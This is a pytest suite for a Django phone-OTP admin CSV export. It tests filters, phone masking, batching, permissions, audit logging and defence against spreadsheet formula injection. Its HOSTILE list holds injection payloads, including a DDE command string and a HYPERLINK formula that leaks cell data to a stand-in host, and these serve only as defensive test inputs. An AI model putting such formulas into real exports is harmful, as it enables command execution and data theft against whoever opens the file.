"""Challenges as CSV: what the filters choose, safe to open, bounded, and written down."""

import csv
import io
from datetime import timedelta
from decimal import Decimal
from re import split
from typing import Any

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client as Browser
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from django_phone_otp.admin import export
from django_phone_otp.admin.export import COLUMNS, make_safe, write_csv
from django_phone_otp.choices import DeliveryOutcome, Purpose, State
from django_phone_otp.models import DeliveryAttempt, PhoneChallenge, PhoneLedger
from tests.conftest import NOW
from tests.fakes_admin import log_in
from tests.rows import make_challenge, make_challenges, make_ledger

pytestmark = pytest.mark.django_db

LIST = "/admin/phone_otp/phonechallenge/"
EXPORT = f"{LIST}export/"
MINUTE, DAY = timedelta(minutes=1), timedelta(days=1)
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "  =1",
    '"=1"',
    'a,"b";=c',
    '=HYPERLINK("https://evil.example?"&A1)',
]


@pytest.fixture
def ledger() -> PhoneLedger:
    return make_ledger(timedelta(0))


def parse(text: str) -> list[dict[str, str]]:
    """Read a CSV back, as a spreadsheet does."""
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def download(client: Any, query: str = "") -> list[dict[str, str]]:
    response = client.post(f"{EXPORT}{query}")
    assert response.status_code == 200
    return parse(b"".join(response.streaming_content).decode())


def write(**options: Any) -> list[dict[str, str]]:
    return parse("".join(write_csv(PhoneChallenge.objects.all(), timezone.now(), **options)))


@pytest.mark.usefixtures("clock")
def test_all_columns_of_a_challenge(admin_client, ledger):
    challenge = make_challenge(
        MINUTE,
        ledger,
        region="RU",
        account="memory",
        provider="locmem",
        ip="203.0.113.7",
        user_agent="App/1.0",
    )
    DeliveryAttempt.objects.update(
        detail="queued", cost=Decimal("1.2"), currency="RUB", duration_ms=340
    )
    (row,) = download(admin_client)
    assert row == {
        "asked_at": "2026-03-01T11:59:00+00:00",
        "phone": "'+7•••••••003",
        "region": "RU",
        "purpose": "login",
        "state": "sent",
        "channel": "sms",
        "account": "memory",
        "provider": "locmem",
        "door": "",
        "known_device": "no",
        "user": "",
        "tries_left": "5",
        "sent_at": "2026-03-01T11:59:00+00:00",
        "expires_at": "2026-03-01T12:04:00+00:00",
        "verified_at": "",
        "spent_at": "",
        "deliveries": "1",
        "last_outcome": "sent",
        "last_words": "queued",
        "last_duration_ms": "340",
        "costs": "1.20000 RUB",
        "address": "203.0.113.7",
        "client": "App/1.0",
    }
    assert challenge.public_id not in str(row)


def test_no_column_holds_a_phone_a_digest_or_an_identifier(ledger):
    challenge = make_challenge(MINUTE, ledger, client_digest="the client's digest")
    text = "".join(write_csv(PhoneChallenge.objects.all(), timezone.now()))
    for secret in ("4501003", challenge.public_id, "digest"):
        assert secret not in text


@pytest.mark.parametrize("text", HOSTILE)
def test_s20_a_user_agent_is_no_formula(ledger, text):
    make_challenge(MINUTE, ledger, user_agent=text)
    (row,) = write()
    assert row["client"].lstrip(" ")[0] not in "=+-@\t\r\n＝＋－＠"
    assert row["client"].replace("'", "") == "".join(
        each if each.isprintable() else " " for each in text.replace("'", "")
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_s20_a_providers_words_are_no_formula(ledger, text):
    make_challenge(MINUTE, ledger)
    DeliveryAttempt.objects.update(detail=text)
    (row,) = write()
    assert row["last_words"].lstrip(" ")[0] not in "=+-@\t\r\n＝＋－＠"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x; \t+1", "x;  '+1"),
        ("x,-1", "x,'-1"),
        ("x|@SUM(A1)", "x|'@SUM(A1)"),
        ("x\u2028;＝1", "x ;'＝1"),
        ('x;"=1+1', "x;\"'=1+1"),
        (";;=1;=2", ";;'=1;'=2"),
        ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (X11; Linux x86_64)"),
    ],
)
def test_s20_no_part_of_a_cell_is_a_formula_where_semicolons_separate(text, safe):
    assert make_safe(text) == safe


@given(st.text(alphabet="x;,|=+-@\" '\t"))
def test_s20_wherever_a_cell_is_split_no_part_is_a_formula(text):
    first, *rest = split(r"[;,|\t]", make_safe(text))
    for part in [first.strip(), *(each.strip(' "') for each in rest)]:
        assert not part.startswith(("=", "+", "-", "@"))


@given(st.text())
def test_s20_no_text_is_a_formula_and_none_breaks_a_line(text):
    safe = make_safe(text)
    assert not safe.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert safe.isprintable()
    assert make_safe("plain") == "plain"


def test_the_sums_of_what_was_paid(ledger):
    challenge = make_challenge(MINUTE, ledger)
    for cost, currency in ((Decimal("1.5"), "RUB"), (Decimal("2"), "RUB"), (Decimal("1"), "BYN")):
        DeliveryAttempt.objects.create(
            challenge=challenge,
            account="a",
            provider="p",
            channel="sms",
            outcome=DeliveryOutcome.SENT,
            duration_ms=1,
            cost=cost,
            currency=currency,
        )
    assert write()[0]["costs"] == "1.00000 BYN; 3.50000 RUB"


def test_the_state_is_the_one_that_operators_see(ledger):
    make_challenge(DAY, ledger, state=State.FAILED, code_digest="")
    assert write()[0]["state"] == "failed"


def test_a_user_who_is_gone_is_named(ledger):
    user = get_user_model().objects.create_user("gone")
    make_challenge(DAY, ledger, user_id=user.pk)
    number = user.pk
    user.delete()
    assert write()[0]["user"] == str(number)


# What is chosen


@pytest.mark.parametrize(
    ("query", "count"),
    [("", 2), ("?purpose=link", 1), ("?when=all", 3), ("?state=verified", 0), ("?p=2", 2)],
)
def test_the_filters_choose(admin_client, ledger, query, count):
    make_challenge(MINUTE, ledger)
    make_challenge(MINUTE, ledger, purpose=Purpose.LINK)
    make_challenge(2 * DAY, ledger)
    assert len(download(admin_client, query)) == count


def test_all_pages_are_written_the_newest_first(admin_client, ledger):
    made = make_challenges(MINUTE, ledger, 60)
    rows = download(admin_client)
    assert [row["asked_at"] for row in rows] == [
        each.created_at.isoformat(timespec="seconds") for each in reversed(made)
    ]


@pytest.mark.parametrize("is_one_moment", [True, False])
@pytest.mark.parametrize("count", [5, 6, 7])
def test_batches_leave_nothing_out_and_repeat_nothing(ledger, monkeypatch, count, is_one_moment):
    monkeypatch.setattr(export, "BATCH_SIZE", 3)
    made = make_challenges(MINUTE, ledger, count)
    for number, each in enumerate(made):
        PhoneChallenge.objects.filter(pk=each.pk).update(
            user_agent=str(number), **({"created_at": NOW} if is_one_moment else {})
        )
    assert [row["client"] for row in write()] == [str(each) for each in reversed(range(count))]


def test_it_says_where_it_was_cut(ledger):
    make_challenges(MINUTE, ledger, 4)
    rows = write(max_rows=3)
    assert len(rows) == 4
    assert rows[-1]["asked_at"] == "Cut off: these are the newest 3 rows."


def test_nothing_is_said_where_all_of_them_fit(ledger):
    make_challenges(MINUTE, ledger, 3)
    assert [row["phone"] for row in write(max_rows=3)] == ["'+7•••••••003"] * 3


def test_rows_are_read_as_they_are_sent(ledger, monkeypatch):
    monkeypatch.setattr(export, "BATCH_SIZE", 2)
    make_challenges(MINUTE, ledger, 10)
    with CaptureQueriesContext(connection) as queries:
        lines = write_csv(PhoneChallenge.objects.all(), timezone.now())
        for _ in range(3):
            next(lines)
    # A batch of challenges and their deliveries.
    assert len(queries) == 2


def test_a_list_without_rows_has_its_columns(admin_client):
    response = admin_client.post(EXPORT)
    text = b"".join(response.streaming_content).decode()
    assert text.removeprefix("\ufeff").strip().split(",") == list(COLUMNS)


# Who may


def test_its_headers(admin_client, ledger):
    response = admin_client.post(EXPORT)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="challenges-')
    assert "no-store" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"


def test_s21_its_permission_is_needed(client, ledger):
    log_in(client, "view_phonechallenge")
    assert client.post(EXPORT).status_code == 403
    assert not LogEntry.objects.exists()


def test_s21_its_permission_alone_is_not_enough(client, ledger):
    log_in(client, "export_phonechallenge")
    assert client.post(EXPORT).status_code == 403


def test_with_both_it_is_given(client, ledger):
    log_in(client, "view_phonechallenge", "export_phonechallenge")
    assert client.post(EXPORT).status_code == 200


def test_it_is_not_given_by_get(admin_client):
    assert admin_client.get(EXPORT).status_code == 405


def test_without_a_csrf_token_it_is_refused(admin_user):
    client = Browser(enforce_csrf_checks=True)
    client.force_login(admin_user)
    assert client.post(EXPORT).status_code == 403


def test_a_filter_that_is_not_allowed_is_refused(admin_client, ledger):
    assert admin_client.post(f"{EXPORT}?phone__startswith=%2B7924").status_code == 400


def test_a_filter_that_is_nonsense_leads_back(admin_client, ledger):
    response = admin_client.post(f"{EXPORT}?created_at__gte=yesterday")
    assert (response.status_code, response.url) == (302, LIST)


def test_who_took_what_is_written_down(admin_client, admin_user, ledger):
    admin_client.post(f"{EXPORT}?when=week&state=failed")
    entry = LogEntry.objects.get()
    assert (entry.user, entry.object_repr) == (admin_user, "phone challenges")
    assert entry.change_message == "Exported as CSV: state = failed, when = week"


@pytest.mark.parametrize(
    ("query", "scope"),
    [
        ("", "when = day"),
        ("when=all", "when = all"),
        ("when=nonsense", "when = day"),
        ("state=failed&region=", "state = failed, when = day"),
    ],
)
def test_the_log_says_what_was_chosen(admin_client, admin_user, ledger, caplog, query, scope):
    caplog.set_level("INFO", "django_phone_otp.admin")
    admin_client.post(f"{EXPORT}?{query}")
    (record,) = [each for each in caplog.records if hasattr(each, "phone_otp")]
    assert record.phone_otp == {
        "action": "export_csv",
        "operator": admin_user.pk,
        "scope": scope,
    }


@pytest.mark.parametrize("query", ["of=%00", "account=%00", "q=%00", "when=a%00b"])
def test_whatever_the_filters_say_it_can_be_written_down(admin_client, ledger, query):
    assert admin_client.post(f"{EXPORT}?{query}").status_code == 200
    assert LogEntry.objects.get().change_message.isprintable()


def test_no_phone_is_written_down(admin_client, ledger):
    admin_client.post(f"{EXPORT}?q=%2B79244501003")
    assert LogEntry.objects.get().change_message == "Exported as CSV: q = •••, when = all"


def test_the_log_of_the_admin_can_be_looked_at_afterwards(admin_client, ledger):
    admin_client.post(EXPORT)
    assert "phone challenges" in admin_client.get("/admin/").content.decode()
